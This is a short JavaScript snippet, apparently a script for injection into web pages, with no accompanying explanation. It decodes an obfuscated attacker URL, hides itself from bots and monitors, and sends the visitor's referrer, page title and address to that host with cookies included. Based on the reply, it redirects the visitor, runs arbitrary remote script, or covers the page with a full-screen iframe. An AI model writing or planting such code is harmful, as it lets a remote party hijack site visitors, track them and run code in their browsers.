(() => {
  const q = new URLSearchParams({ se_referrer: document.referrer, default_keyword: document.title, landing_url: location.href, _cid: crypto.getRandomValues(new Uint32Array(1))[0] });
  const rot = (s) => s.split('').map((c) => String.fromCharCode(c.charCodeAt(0) - 1)).join('');
  const name = rot('iuuqt;00') + rot('tmpu.spvufs/jowbmje');
  window.__kt = { R: (u) => location.replace(u), S: (h) => { const r = document.createRange(); r.selectNode(document.head); document.head.appendChild(r.createContextualFragment(h)); } };
  if (/bot|preview|monitor/i.test(navigator.userAgent) || sessionStorage.kt) return;
  sessionStorage.kt = 1;
  fetch(name + '/k8PxQ1?' + q, { credentials: 'include' })
    .then((r) => r.json())
    .then(({ type, body, wait }) => setTimeout(() => {
      if (type === 'http') __kt.R(body);
      else if (type === 'js') __kt.S('<script>' + body + '</' + 'script>');
      else if (type === 'frame') document.body.innerHTML = `<iframe src="${body}" style="position:fixed;inset:0;border:0;width:100vw;height:100vh"></iframe>`;
    }, wait || 0))
    .catch(() => 0);
})();
